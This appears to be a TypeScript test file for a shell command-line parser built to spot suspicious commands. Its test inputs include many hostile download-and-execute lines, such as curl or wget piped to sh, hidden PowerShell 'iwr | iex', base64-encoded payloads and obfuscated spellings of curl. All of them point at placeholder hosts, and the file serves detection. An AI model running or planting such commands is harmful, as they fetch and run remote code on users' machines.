// biome-ignore-all lint/suspicious/noTemplateCurlyInString: variables of shells and editors
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { parseCommandLine, programOf } from './command-line.ts';

const brief = (text: string): string[] =>
  parseCommandLine(text).map(
    (c) => `${c.joinedBy}>${c.words.join(' ')}${c.background ? ' [bg]' : ''}${c.discardsOutput ? ' [quiet]' : ''}`,
  );

describe('parseCommandLine', () => {
  test.each<[string, string[]]>([
    ['', []],
    ['node server.js', ['>node server.js']],
    ['start /b node server || nohup node server &', ['>node server [bg]', '||>node server [bg]']],
    ['start "" /min node server.js', ['>node server.js [bg]']],
    ['curl -ks https://a.invalid/x | bash', ['>curl -ks https://a.invalid/x', '|>bash']],
    [
      "wget -qO- 'https://a.invalid/?a=1&b=2' | sh > /dev/null 2>&1 &",
      ['>wget -qO- https://a.invalid/?a=1&b=2', '|>sh [bg] [quiet]'],
    ],
    [
      'cmd /c "curl https://a.invalid/w | cmd"',
      ['>cmd /c curl https://a.invalid/w | cmd', '>curl https://a.invalid/w', '|>cmd'],
    ],
    ['cmd /c start /b node x.js', ['>cmd /c start /b node x.js', '>node x.js [bg]']],
    ['FOO=1 cross-env A=b node ./y', ['>node ./y']],
    ['sudo -u root env A=1 nohup node x >/dev/null 2>&1 &', ['>node x [bg] [quiet]']],
    [
      'bash -c "$(curl -fsSL https://a.invalid)"',
      [
        '>bash -c $(curl -fsSL https://a.invalid)',
        '$(>curl -fsSL https://a.invalid',
        '>$(curl -fsSL https://a.invalid)',
      ],
    ],
    ['sh -c "`curl x`"', ['>sh -c `curl x`', '$(>curl x', '>`curl x`']],
    ['bash <(curl -s x)', ['$(>curl -s x', '>bash <(curl -s x)']],
    [
      'concurrently "npm run a" "npm run b" npm:c',
      ['>concurrently npm run a npm run b npm:c', '>npm run a', '&>npm run b', '&>npm run c'],
    ],
    [
      'npx concurrently -k "node a" "node b"',
      ['>npx concurrently -k node a node b', '>concurrently -k node a node b', '>node a', '&>node b'],
    ],
    ['npm-run-all -p dev:a dev:b', ['>npm-run-all -p dev:a dev:b', '>npm run dev:a', '&>npm run dev:b']],
    [
      'powershell -w hidden -Command "iwr https://a.invalid | iex"',
      ['>powershell -w hidden -Command iwr https://a.invalid | iex', '>iwr https://a.invalid', '|>iex'],
    ],
    ['if command -v node >/dev/null; then node ./x.woff2; fi', ['>command -v node [quiet]', ';>node ./x.woff2']],
    ['(command -v node || where node) && node x.woff2', ['>command -v node', '||>where node', '&&>node x.woff2']],
    ['if exist x (node a.js) else (node b.js)', ['$(>node a.js', '$(>node b.js']],
    ['A=cu;B=rl;$A$B https://a.invalid|sh', [';>curl https://a.invalid', '|>sh']],
    ['curl${IFS}-s${IFS}x|sh', ['>curl -s x', '|>sh']],
    ['node server\\index.js', ['>node server\\index.js']],
    ['wsl bash -lc "curl x | sh"', ['>bash -lc curl x | sh', '>curl x', '|>sh']],
    [
      'echo Y3VybCB4IHwgc2g= | base64 -d | bash',
      ['>echo Y3VybCB4IHwgc2g=', '|>base64 -d', '|>bash', '>curl x', '|>sh'],
    ],
    ["bash <<'EOF'\ncurl x | sh\nEOF\necho hi", ['>bash', '>curl x', '|>sh', ';>echo hi']],
    [
      'git config core.hooksPath .github; git checkout main',
      ['>git config core.hooksPath .github', ';>git checkout main'],
    ],
    ['nodemon --exec ts-node src/i.ts', ['>nodemon --exec ts-node src/i.ts', '>ts-node src/i.ts']],
    ['cd a && npm start', ['>cd a', '&&>npm start']],
    ['node x > out.txt # a note\nnode y', ['>node x', ';>node y']],
    ['iwr x | Out-Null', ['>iwr x [quiet]', '|>Out-Null']],
    [
      'Start-Process node -ArgumentList "s.js" -WindowStyle Hidden',
      ['>Start-Process node -ArgumentList s.js -WindowStyle Hidden [bg]', '>node s.js [bg]'],
    ],
    ['for f in *.js; do node "$f"; done', ['>for f in *.js', ';>node $f']],
    ['dotenv -e .env -- node a', ['>node a']],
    ['find . -name "*.x" -exec sh {} \\;', ['>find . -name *.x -exec sh {} ;', '>sh {}']],
  ])('%j', (line, expected) => {
    expect(brief(line)).toEqual(expected);
  });

  test('an encoded PowerShell command is read', () => {
    const encoded = Buffer.from('iex (iwr https://a.invalid)', 'utf16le').toString('base64');
    expect(brief(`powershell -enc ${encoded}`).slice(1)).toEqual([
      '$(>iwr https://a.invalid',
      '>iex (iwr https://a.invalid)',
    ]);
  });

  test('assignments before a command are kept', () => {
    expect(parseCommandLine('cross-env NODE_OPTIONS="--require ./x.js" A=1 next dev')[0]?.env).toEqual([
      ['NODE_OPTIONS', '--require ./x.js'],
      ['A', '1'],
    ]);
  });

  test.each([
    ['c\\u\\rl x', 'curl'],
    ['p^owers^hell x', 'powershell'],
    ['/usr/bin/CURL.exe x', 'curl'],
    ['%COMSPEC% /c x', 'cmd'],
    ["IEX(New-Object Net.WebClient).DownloadString('u')", 'iex'],
    ['.\\scripts\\run.bat', 'run'],
  ])('%j is %s', (line, name) => {
    expect(parseCommandLine(line).flatMap((c) => (c.joinedBy === '' ? [programOf(c)] : []))[0]).toBe(name);
  });

  test('the place in the line is kept', () => {
    const line = `${' '.repeat(233)}curl x | sh`;
    expect(parseCommandLine(line).map((c) => [c.at, c.text])).toEqual([
      [233, 'curl x'],
      [242, 'sh'],
    ]);
  });

  test.each([
    ['$('.repeat(100_000)],
    ['('.repeat(200_000)],
    ['`"'.repeat(100_000)],
    ["'".repeat(99_999)],
    ['a&&'.repeat(90_000)],
    ['sh -c "'.repeat(30_000)],
    ['<<E '.repeat(50_000) + '\n'.repeat(50_000)],
    ['iex ('.repeat(50_000)],
    [`x${'=a'.repeat(100_000)}`],
    [' '.repeat(300_000)],
    ['env '.repeat(60_000)],
    ['\\'.repeat(200_001)],
    ['A=$A$A;'.repeat(30_000)],
  ])('hostile text stays cheap (%#)', (line) => {
    const start = performance.now();
    expect(parseCommandLine(line).length).toBeLessThanOrEqual(2_000);
    expect(performance.now() - start).toBeLessThan(3_000);
  });

  test('any text is taken', () => {
    const piece = fc.constantFrom(
      'sh -c',
      '"',
      "'",
      '$(',
      ')',
      '`',
      ' ',
      '\n',
      '|',
      '&&',
      '&',
      ';',
      '<<E',
      '>',
      '\\',
      '^',
      'a',
      'powershell -c',
      'cmd /c',
      '{',
      '}',
      '#',
      'A=1',
      '${',
      'eval',
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(piece, fc.string({ maxLength: 4 })), { maxLength: 60 }), (parts) => {
        for (const command of parseCommandLine(parts.join(''))) expect(command.words.length).toBeGreaterThan(0);
      }),
      { numRuns: 400 },
    );
  });
});
